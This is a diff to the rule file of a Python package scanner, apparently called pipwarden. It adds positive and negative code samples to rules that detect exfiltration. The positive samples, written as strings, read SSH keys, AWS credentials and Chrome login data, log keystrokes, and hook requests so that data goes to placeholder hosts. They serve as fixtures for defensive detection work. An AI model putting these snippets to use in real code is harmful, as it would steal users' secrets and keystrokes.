@@ -3,7 +3,17 @@
 from __future__ import annotations
 
 from pipwarden.findings import Severity
-from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, at_runtime, on_load, rule
+from pipwarden.scan.rules._base import (
+    CRITICAL,
+    HIGH,
+    MEDIUM,
+    at_runtime,
+    negative,
+    on_load,
+    positive,
+    rule,
+)
+from pipwarden.scan.rules._samples import URL
 
 RULES = [
     rule(
@@ -15,6 +25,17 @@ RULES = [
         "send in the same function.",
         "Do not install; rotate any secret exposed to it.",
         severity_in=at_runtime(MEDIUM),
+        samples=(
+            positive(
+                "import os, requests\ndef f():\n"
+                "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                f"    requests.post({URL!r}, data=key)\n"
+            ),
+            negative(
+                "import requests\ndef f():\n    cfg = open('config.json').read()\n"
+                f"    requests.post({URL!r}, data=cfg)\n"
+            ),
+        ),
     ),
     rule(
         "exfiltration.host-info",
@@ -24,6 +45,12 @@ RULES = [
         "Host name, user name or an environment variable reaches a network send.",
         "Check that this is documented telemetry.",
         severity_in=on_load(HIGH),
+        samples=(
+            positive(
+                f"import socket, requests\ndef f():\n    requests.post({URL!r}, data={{'h': socket.gethostname()}})\n"
+            ),
+            negative(f"import requests\ndef f():\n    requests.post({URL!r}, data={{'a': 1}})\n"),
+        ),
     ),
     rule(
         "exfiltration.credential-access",
@@ -32,6 +59,12 @@ RULES = [
         "Reads credential files",
         "Code opens SSH keys, cloud or package-index credentials.",
         "Check why the package reads them.",
+        samples=(
+            positive(
+                "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
+            ),
+            negative("def f():\n    return open('settings.ini').read()\n"),
+        ),
     ),
     rule(
         "exfiltration.browser-data",
@@ -40,6 +73,13 @@ RULES = [
         "Reads browser or chat-app data",
         "Code opens browser password/cookie stores or Discord/Telegram storage.",
         "Do not install unless this is the package's stated purpose.",
+        samples=(
+            positive(
+                "import os\ndef f(base):\n"
+                "    return open(os.path.join(base, 'Google/Chrome/User Data/Default/Login Data'), 'rb')\n"
+            ),
+            negative("def f():\n    return open('data.db', 'rb')\n"),
+        ),
     ),
     rule(
         "exfiltration.surveillance",
@@ -48,6 +88,18 @@ RULES = [
         "Keylogger or screen capture with a network send",
         "One file hooks the keyboard or captures the screen and also sends data over the network.",
         "Do not install unless the package is a remote-desktop or monitoring tool you chose.",
+        samples=(
+            positive(
+                "import requests\nfrom pynput import keyboard\nkeys = []\n"
+                "def on_press(k):\n    keys.append(str(k))\n"
+                "def flush():\n    requests.post('https://example.invalid/k', data=''.join(keys))\n"
+                "keyboard.Listener(on_press=on_press).start()\n"
+            ),
+            negative(
+                "from pynput import keyboard\ndef hotkeys(cb):\n"
+                "    return keyboard.Listener(on_press=cb)\n"
+            ),
+        ),
     ),
     rule(
         "exfiltration.function-hook",
@@ -57,6 +109,22 @@ RULES = [
         "Code replaces a function of another library (requests.Session.request, a wallet's "
         "key constructor) with a wrapper that sends data over the network: every call leaks.",
         "Do not install; check what the wrapper sends.",
+        samples=(
+            positive(
+                "import requests, urllib.request\n_orig = requests.Session.request\n"
+                "def _request(self, method, url, **kw):\n"
+                "    urllib.request.urlopen('https://c.example.invalid/?u=' + url)\n"
+                "    return _orig(self, method, url, **kw)\n"
+                "requests.Session.request = _request\n",
+                "pkg/__init__.py",
+            ),
+            # An SDK hooking on the user's init() call, not on import.
+            negative(
+                "import sys, urllib.request\ndef init(dsn):\n    def hook(tp, val, tb):\n"
+                "        urllib.request.urlopen(dsn)\n    sys.excepthook = hook\n",
+                "pkg/__init__.py",
+            ),
+        ),
     ),
 ]
 
